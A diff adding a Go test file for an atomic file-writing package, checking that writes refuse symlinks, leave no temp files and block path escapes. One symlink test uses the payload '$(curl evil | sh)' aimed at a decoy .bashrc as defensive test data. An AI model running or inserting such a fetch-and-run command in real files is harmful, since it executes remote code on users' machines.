@@ -1,0 +1,142 @@
+package atomicfile
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// writers are the ways this package writes a file.
+var writers = []struct {
+	name  string
+	write func(path string, data []byte) error
+}{
+	{"Write", func(p string, d []byte) error { return Write(p, d, 0o644) }},
+	{"WriteVolatile", func(p string, d []byte) error { return WriteVolatile(p, d, 0o644) }},
+	{"OpenFile", func(p string, d []byte) error {
+		f, err := OpenFile(p, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
+		if err != nil {
+			return err
+		}
+		_, err = f.Write(d)
+		return errors.Join(err, f.Close())
+	}},
+	{"OpenFile append", func(p string, d []byte) error {
+		f, err := OpenFile(p, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
+		if err != nil {
+			return err
+		}
+		_, err = f.Write(d)
+		return errors.Join(err, f.Close())
+	}},
+}
+
+func TestWriteRegularFile(t *testing.T) {
+	for _, w := range writers {
+		t.Run(w.name, func(t *testing.T) {
+			dir := t.TempDir()
+			p := filepath.Join(dir, "state.json")
+			require.NoError(t, w.write(p, []byte("one")))
+			got, err := os.ReadFile(p)
+			require.NoError(t, err)
+			assert.Equal(t, "one", string(got))
+			assert.Equal(t, []string{"state.json"}, names(t, dir), "no temp file left")
+		})
+	}
+}
+
+// TestRefusesSymlink: a link where a file is written, to an existing file
+// or to nothing yet, is refused; the target and the link stay as they were.
+func TestRefusesSymlink(t *testing.T) {
+	for _, w := range writers {
+		for _, dangling := range []bool{false, true} {
+			name := w.name + "/to a file"
+			if dangling {
+				name = w.name + "/dangling"
+			}
+			t.Run(name, func(t *testing.T) {
+				outside := filepath.Join(t.TempDir(), ".bashrc")
+				if !dangling {
+					require.NoError(t, os.WriteFile(outside, []byte("export PATH=/usr/bin\n"), 0o600))
+				}
+				dir := t.TempDir()
+				link := filepath.Join(dir, "events.jsonl")
+				require.NoError(t, os.Symlink(outside, link))
+
+				err := w.write(link, []byte("$(curl evil | sh)\n"))
+				var se *SymlinkError
+				require.ErrorAs(t, err, &se)
+				assert.Equal(t, link, se.Path)
+				assert.Equal(t, outside, se.Target)
+				assert.Contains(t, err.Error(), link, "the error names the path")
+				assert.NotEmpty(t, se.Hint())
+
+				if dangling {
+					assert.NoFileExists(t, outside, "nothing created through the link")
+				} else {
+					got, err := os.ReadFile(outside)
+					require.NoError(t, err)
+					assert.Equal(t, "export PATH=/usr/bin\n", string(got), "target byte-identical")
+				}
+				fi, err := os.Lstat(link)
+				require.NoError(t, err)
+				assert.NotZero(t, fi.Mode()&os.ModeSymlink, "the link is not replaced")
+				assert.Equal(t, []string{"events.jsonl"}, names(t, dir), "no temp file left")
+			})
+		}
+	}
+}
+
+func TestCheckNoLinks(t *testing.T) {
+	base := t.TempDir()
+	outside := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(base, "workflows"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(base, "config.toml"), nil, 0o644))
+	require.NoError(t, os.Symlink(outside, filepath.Join(base, "state")))
+	require.NoError(t, os.Symlink(filepath.Join(outside, "x.toml"), filepath.Join(base, "workflows", "bug.toml")))
+
+	tests := []struct {
+		path     string
+		wantLink string // "" = no error
+		wantErr  bool
+	}{
+		{path: "config.toml"},
+		{path: "workflows/feature.toml"},
+		{path: "new/dir/file.json"},
+		{path: "workflows/bug.toml", wantLink: "workflows/bug.toml"},
+		{path: "state/.gitignore", wantLink: "state"},
+		{path: "state/clarifications/issue-1.json", wantLink: "state"},
+		{path: "../escape.json", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.path, func(t *testing.T) {
+			err := CheckNoLinks(base, filepath.Join(base, filepath.FromSlash(tt.path)))
+			var se *SymlinkError
+			switch {
+			case tt.wantLink != "":
+				require.ErrorAs(t, err, &se)
+				assert.Equal(t, filepath.Join(base, filepath.FromSlash(tt.wantLink)), se.Path)
+			case tt.wantErr:
+				require.Error(t, err)
+				assert.False(t, errors.As(err, &se))
+			default:
+				assert.NoError(t, err)
+			}
+		})
+	}
+}
+
+func names(t *testing.T, dir string) []string {
+	t.Helper()
+	es, err := os.ReadDir(dir)
+	require.NoError(t, err)
+	var out []string
+	for _, e := range es {
+		out = append(out, e.Name())
+	}
+	return out
+}
